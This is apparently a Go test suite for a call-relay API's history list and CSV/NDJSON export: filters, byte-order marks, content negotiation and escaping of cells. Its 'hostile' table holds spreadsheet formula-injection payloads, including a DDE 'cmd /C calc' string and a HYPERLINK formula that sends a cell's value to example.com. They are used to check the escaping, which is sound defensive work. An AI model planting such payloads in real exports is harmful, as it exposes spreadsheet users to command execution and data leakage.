package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/pushwake/relay/api"
	"github.com/pushwake/relay/store/storetest"
)

// listed are the calls of the history as the list has them, over all its pages.
func (r *rig) listed(key, path, query string) (calls []json.RawMessage) {
	r.t.Helper()
	for cursor := ""; ; {
		var page struct {
			Data []json.RawMessage
			Next *string `json:"next_cursor"`
		}
		if err := json.Unmarshal(r.ask(key, "GET", path+"?limit=200&"+query+cursor, nil).want(200).body, &page); err != nil {
			r.t.Fatal(err)
		}
		if calls = append(calls, page.Data...); page.Next == nil {
			return calls
		}
		cursor = "&cursor=" + *page.Next
	}
}

// lines are the calls of an export in NDJSON.
func (a answer) lines() (calls []json.RawMessage) {
	for line := range bytes.Lines(a.body) {
		calls = append(calls, bytes.TrimSuffix(line, []byte("\n")))
	}
	return calls
}

// table is an export in CSV: a map of the cells for each row.
func (a answer) table() (rows []map[string]string) {
	a.t.Helper()
	if got := a.header.Get("Content-Type"); got != "text/csv; charset=utf-8; header=present" {
		a.t.Errorf("%s: Content-Type %q", a.what, got)
	}
	if n := bytes.Count(a.body, []byte("\r\n")); n != bytes.Count(a.body, []byte("\n")) {
		a.t.Errorf("%s: not every line ends in CRLF", a.what)
	}
	body, marked := bytes.CutPrefix(a.body, []byte("\ufeff"))
	if marked == strings.Contains(a.what, "bom=false") || bytes.HasPrefix(body, []byte("\ufeff")) {
		a.t.Errorf("%s: it begins with %q", a.what, a.body[:min(6, len(a.body))])
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(records) == 0 {
		a.t.Fatalf("%s: %d rows, %v", a.what, len(records), err)
	}
	for _, record := range records[1:] {
		row := map[string]string{}
		for i, name := range records[0] {
			row[name] = record[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// TestHistoryFilters asks for calls by each filter and by several, as a list and
// as both kinds of export, of one app and of all.
func TestHistoryFilters(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	const calls = 240 // more than a page
	until := time.Now().UTC().Truncate(time.Millisecond)
	storetest.FillHistory(t, r.db, app, calls, time.Second, until)
	storetest.FillHistory(t, r.db, otherApp, 60, 5*time.Second, until)
	at := func(n int) time.Time { return until.Add(-45*time.Second - time.Duration(calls-n)*time.Second) }
	moment := func(t time.Time) string {
		return url.QueryEscape(t.In(time.FixedZone("", 8*3600)).Format(time.RFC3339Nano))
	}
	kind := func(first, last int) func(int) bool { return func(n int) bool { return n%20 >= first && n%20 <= last } }
	none := func(int) bool { return false }
	for query, chooses := range map[string]func(n int) bool{
		"":                        func(int) bool { return true },
		"user_id=user7":           func(n int) bool { return n == 7 },
		"user_id=caller7":         func(n int) bool { return n%100 == 7 },
		"caller_id=caller7":       func(n int) bool { return n%100 == 7 },
		"caller_id=user7":         none,
		"device_id=user19-phone":  func(n int) bool { return n == 19 },
		"ref=r77":                 func(n int) bool { return n == 77 },
		"status=ended":            kind(0, 19),
		"status=ringing":          none,
		"end_reason=completed":    func(n int) bool { return n%20 <= 11 || n%20 == 19 },
		"end_reason=missed":       kind(12, 14),
		"end_reason=rejected":     none,
		"direction=outgoing":      kind(19, 19),
		"media=voice":             func(n int) bool { return n%3 == 0 },
		"platform=ios":            kind(17, 17),
		"platform=harmonyos":      kind(0, 19),
		"region=HK":               kind(15, 17),
		"region=CN":               kind(0, 19),
		"reason=not_connected":    kind(0, 5),
		"reason=dnd":              none,
		"from=" + moment(at(100)): func(n int) bool { return n >= 100 },
		"to=" + moment(at(100)):   func(n int) bool { return n < 100 },
		"from=" + moment(at(100)) + "&to=" + moment(at(220)):                           func(n int) bool { return n >= 100 && n < 220 },
		"from=" + moment(at(100).Add(time.Microsecond)) + "&to=" + moment(at(102)):     func(n int) bool { return n == 101 },
		"media=voice&end_reason=missed":                                                func(n int) bool { return n%3 == 0 && n%20 >= 12 && n%20 <= 14 },
		"platform=ios&region=HK":                                                       none, // each holds for another leg
		"platform=harmonyos&region=HK&reason=region_not_supported&end_reason=canceled": kind(15, 16),
		"user_id=user19&caller_id=caller19&device_id=user19-phone&ref=r19&status=ended&end_reason=completed&direction=outgoing&media=video&platform=harmonyos&region=CN": func(n int) bool { return n == 19 },
	} {
		t.Run(query, func(t *testing.T) {
			r := r.in(t)
			var want []string
			for n := calls; n > 0; n-- {
				if chooses(n) {
					want = append(want, fmt.Sprint("r", n))
				}
			}
			listed := r.listed(r.backend, "/v1/calls", query)
			got := make([]string, len(listed))
			for i, c := range listed {
				var one struct{ Ref string }
				if err := json.Unmarshal(c, &one); err != nil {
					t.Fatal(err)
				}
				got[i] = one.Ref
			}
			if !slices.Equal(got, want) {
				t.Fatalf("the list has %v, want %v", got, want)
			}
			sameLines(t, r.ask(r.backend, "GET", "/v1/calls/export?"+query, nil).want(200), listed)
			var refs []string
			for _, row := range r.ask(r.backend, "GET", "/v1/calls/export?format=csv&"+query, nil).want(200).table() {
				if _, has := row["app_id"]; has {
					t.Error("a backend is told of apps")
				}
				refs = append(refs, row["ref"])
			}
			if !slices.Equal(refs, want) {
				t.Errorf("the table has %v, want %v", refs, want)
			}
			sameLines(t, r.ask(r.admin, "GET", "/v1/admin/calls/export?"+query, nil).want(200), r.listed(r.admin, "/v1/admin/calls", query))
			for _, row := range r.ask(r.admin, "GET", "/v1/admin/calls/export?format=csv&app_id=demo&"+query, nil).want(200).table() {
				if row["app_id"] != app {
					t.Errorf("call %s of the app %q", row["ref"], row["app_id"])
				}
				refs = refs[1:]
			}
			if len(refs) != 0 {
				t.Errorf("an operator's table lacks %v", refs)
			}
		})
	}
	apps := map[string]int{}
	for _, row := range r.ask(r.admin, "GET", "/v1/admin/calls/export?format=csv", nil).want(200).table() {
		apps[row["app_id"]]++
	}
	if diff := cmp.Diff(map[string]int{app: calls, otherApp: 60}, apps); diff != "" {
		t.Errorf("all apps (-want +got):\n%s", diff)
	}
	if got := len(r.ask(r.foreign, "GET", "/v1/calls/export", nil).want(200).lines()); got != 60 {
		t.Errorf("the other app has %d calls", got)
	}
}

func sameLines(t testing.TB, export answer, listed []json.RawMessage) {
	t.Helper()
	got := export.lines()
	if len(got) != len(listed) {
		t.Errorf("%s: %d lines, want %d", export.what, len(got), len(listed))
		return
	}
	for i := range got {
		if !bytes.Equal(got[i], listed[i]) {
			t.Errorf("%s: line %d is\n%s\nthe list has\n%s", export.what, i, got[i], listed[i])
		}
	}
}

// TestEmptyExport: no calls are a good answer.
func TestEmptyExport(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	if a := r.ask(r.backend, "GET", "/v1/calls/export", nil).want(200); len(a.body) != 0 || a.header.Get("Content-Type") != ndjson {
		t.Errorf("%q of %s", a.body, a.header.Get("Content-Type"))
	}
	if rows := r.ask(r.backend, "GET", "/v1/calls/export?format=csv", nil).want(200).table(); len(rows) != 0 {
		t.Errorf("rows %v", rows)
	}
}

// TestByteOrderMark: a table begins with one, which spreadsheets need, unless it
// is asked not to; NDJSON never does.
func TestByteOrderMark(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.ask(r.backend, "POST", "/v1/calls", invite("王伟")).want(201)
	for path, key := range map[string]string{"/v1/calls/export": r.backend, "/v1/admin/calls/export": r.admin} {
		whole := r.ask(key, "GET", path+"?format=csv", nil).want(200)
		if !bytes.HasPrefix(whole.body, []byte("\xef\xbb\xbfid,")) || whole.table()[0]["callee_id"] != "王伟" {
			t.Errorf("%s: %q", whole.what, whole.body)
		}
		if marked := r.ask(key, "GET", path+"?format=csv&bom=true", nil).want(200); !bytes.Equal(marked.body, whole.body) {
			t.Errorf("%s: %q", marked.what, marked.body)
		}
		if byAccept := r.ask(key, "GET", path, nil, "Accept", "text/csv").want(200); !bytes.Equal(byAccept.body, whole.body) {
			t.Errorf("%s by Accept: %q", byAccept.what, byAccept.body)
		}
		bare := r.ask(key, "GET", path+"?format=csv&bom=false", nil).want(200)
		if !bytes.HasPrefix(bare.body, []byte("id,")) || !bytes.Equal(append([]byte("\xef\xbb\xbf"), bare.body...), whole.body) {
			t.Errorf("%s: %q", bare.what, bare.body)
		}
		for _, query := range []string{"?format=ndjson", "?format=ndjson&bom=true", "?bom=false"} {
			if lines := r.ask(key, "GET", path+query, nil).want(200); !bytes.HasPrefix(lines.body, []byte("{")) {
				t.Errorf("%s: %q", lines.what, lines.body)
			}
		}
	}
}

// TestTable looks at every cell of a call.
func TestTable(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.ask(r.backend, "PUT", "/v1/devices/"+url.PathEscape("d 1:é"), phone("u2", r.token("d1"))).want(200)
	r.ask(r.backend, "PUT", "/v1/devices/hk", phone("u2", "", object{"region": object{"country": "HK"}})).want(200)
	call := r.ask(r.backend, "POST", "/v1/calls", invite("u2", object{"ref": `sip "8f", 3`})).want(201).text("id")
	r.ask(r.jwt("u2", "d 1:é"), "POST", "/v1/device/calls/"+call+"/reports", object{"reports": []any{report(1, "active"), report(2, "disconnected")}}).want(200)
	out := r.ask(r.jwt("u2", "d 1:é"), "POST", "/v1/device/calls", object{"client_id": "c-1", "callee": object{"user_id": "u9", "name": "Wang Wei"}, "media": "voice"}).want(201)
	rows := r.ask(r.admin, "GET", "/v1/admin/calls/export?format=csv", nil).want(200).table()
	if len(rows) != 2 {
		t.Fatalf("rows %v", rows)
	}
	for i, path := range []string{"/v1/calls/" + out.text("call", "id"), "/v1/calls/" + call} {
		c := r.ask(r.backend, "GET", path, nil).want(200)
		want := map[string]string{
			"app_id": app, "caller_id": c.text("caller", "user_id"), "callee_id": c.text("callee", "user_id"), "reachable": "1", "caller_name": "", "callee_name": "", "client_id": "",
		}
		for _, name := range []string{
			"id", "ref", "direction", "status", "end_reason", "media", "created_at", "expires_at", "ringing_at", "answered_at", "active_at", "ended_at", "answered_by",
		} {
			want[name], _ = c.get(name).(string)
		}
		if i == 0 {
			want["client_id"], want["callee_name"], want["legs"] = "c-1", "Wang Wei", "d%201%3A%C3%A9:confirmed:connection:"
		} else {
			want["caller_name"], want["legs"] = "Li Na", "d%201%3A%C3%A9:completed:push_kit_voip: hk:skipped::region_not_supported"
		}
		if diff := cmp.Diff(want, rows[i]); diff != "" {
			t.Errorf("row %d (-want +got):\n%s", i, diff)
		}
	}
}

// hostile are texts and what they are as cells.
var hostile = map[string]string{
	"=1+1": "'=1+1", "+8613800138000": "'+8613800138000", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠1": "'＠1",
	"\t=1": "'\t'=1", "\tx": "'\tx", "\n=1": "'\n'=1", "\nx": "'\nx", " =1": "' =1", "\u00a0\u200b=1": "'\u00a0\u200b=1", "\ufeff@x": "'\ufeff@x",
	`=HYPERLINK("https://example.com/?"&A1,"x")`: `'=HYPERLINK("https://example.com/?"&A1,"x")`,
	"Eve;=1+cmd|' /C calc'!A0":                   "Eve;'=1+cmd|' /C calc'!A0",
	"a;=b; +c":                                   "a;'=b; '+c",
	"a\n=b":                                      "a\n'=b",
	"a-b":                                        "a-b", "a =b": "a =b", "'=1": "'=1", `a, "b"`: `a, "b"`, "O'Brien; Li": "O'Brien; Li", "a\nb": "a\nb", "李娜": "李娜", "1": "1",
}

// TestHostileCells: nothing that a user may choose begins a formula, and all of
// it can be read back.
func TestHostileCells(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	want := map[string]string{}
	for text, cell := range hostile {
		r.ask(r.backend, "PUT", "/v1/devices/"+url.PathEscape(text), phone(text, "")).want(200)
		id := r.ask(r.backend, "POST", "/v1/calls", invite(text, object{"ref": text, "caller": object{"user_id": text, "name": text}})).want(201).text("id")
		want[id] = cell
	}
	for _, row := range r.ask(r.backend, "GET", "/v1/calls/export?format=csv", nil).want(200).table() {
		cell, known := want[row["id"]]
		if !known {
			t.Errorf("an unknown call: %v", row)
		}
		for _, name := range []string{"ref", "caller_id", "caller_name", "callee_id"} {
			if row[name] != cell {
				t.Errorf("%s is %q, want %q", name, row[name], cell)
			}
		}
		device, _, _ := strings.Cut(strings.TrimPrefix(row["legs"], "'"), ":")
		if text, err := url.PathUnescape(device); err != nil || hostile[text] != cell {
			t.Errorf("legs are %q, of a device %q (%v)", row["legs"], text, err)
		}
		for name, cell := range row {
			if cell != "" && strings.Contains("=+-@\t\r\n", cell[:1]) {
				t.Errorf("%s begins a formula: %q", name, cell)
			}
		}
		delete(want, row["id"])
	}
	if len(want) != 0 {
		t.Errorf("missing: %v", want)
	}
}

// FuzzDefuse: whatever a text is, no part of its cell begins a formula, and its
// apostrophes alone tell the two apart.
func FuzzDefuse(f *testing.F) {
	for text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		text = strings.ToValidUTF8(text, "")
		cell := api.Defuse(text)
		for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
			if part = strings.TrimSpace(part); part != "" && strings.ContainsAny(part[:1], "=+-@") {
				t.Errorf("%q became %q, where a formula may begin", text, cell)
			}
		}
		if bare := strings.ReplaceAll(cell, "'", ""); bare != strings.ReplaceAll(text, "'", "") {
			t.Errorf("%q became %q", text, cell)
		}
	})
}

func TestExportRefusals(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	const path, admin = "/v1/calls/export", "/v1/admin/calls/export"
	for _, query := range []string{
		"format=xml", "format=", "format=csv&format=csv", "limit=5", "cursor=AAAA", "x=1", "bom=no", "bom=", "format=csv&bom=1", "status=lost", "region=XQ", "from=yesterday", "reason=x&format=csv",
	} {
		r.ask(r.backend, "GET", path+"?"+query, nil).refused(400, api.CodeMalformed)
		r.ask(r.admin, "GET", admin+"?"+query, nil).refused(400, api.CodeMalformed)
	}
	r.ask(r.backend, "GET", path+"?app_id=demo", nil).refused(400, api.CodeMalformed)
	for _, key := range []string{"", r.admin, r.jwt("u2", "d1"), "rk_unknown"} {
		r.ask(key, "GET", path, nil).refused(401, api.CodeUnauthenticated)
	}
	r.ask(r.backend, "GET", admin, nil).refused(401, api.CodeUnauthenticated)
	for _, method := range []string{"POST", "DELETE"} {
		a := r.ask(r.backend, method, path, nil).want(405)
		if a.header.Get("Allow") != "GET, HEAD" {
			t.Errorf("%s: Allow %q", a.what, a.header.Get("Allow"))
		}
	}
	const lines, table = "application/x-ndjson", "text/csv"
	for _, tc := range []struct{ query, accept, kind string }{
		{"", "*/*", lines},
		{"", "text/csv", table},
		{"", "text/*;q=0.5, application/json", table},
		{"", "text/csv, application/x-ndjson;q=0.1", lines}, // weights rule out, they do not rank
		{"", "application/x-ndjson;q=0, */*", table},
		{"", "Application/X-NDJSON", lines},
		{"", "application/*", lines},
		{"?format=csv", "text/csv; header=present", table},
		{"?format=csv", "application/x-ndjson, */*;q=0.1", table},
		{"?format=csv", "application/*", ""},
		{"?format=ndjson", "text/csv", ""},
		{"?format=ndjson", "application/json", ""},
		{"", "application/json", ""},
		{"", "*/*;q=0", ""},
		{"", "text/html", ""},
		{"", "", ""},
	} {
		a := r.ask(r.backend, "GET", path+tc.query, nil, "Accept", tc.accept)
		if tc.kind == "" {
			a.refused(406, api.CodeNotAcceptable)
		} else if kind, _, _ := strings.Cut(a.want(200).header.Get("Content-Type"), ";"); kind != tc.kind {
			t.Errorf("%s of %q: %s, want %s", tc.query, tc.accept, kind, tc.kind)
		}
	}
	r.ask(r.backend, "GET", "/v1/calls", nil, "Accept", "text/csv, application/x-ndjson").refused(406, api.CodeNotAcceptable)
	r.ask(r.backend, "GET", "/v1/calls", nil, "Accept", "application/problem+json").want(200)
	r.ask(r.backend, "GET", "/v1/calls", nil, "Accept", "application/json;q=0, text/*").refused(406, api.CodeNotAcceptable)
}
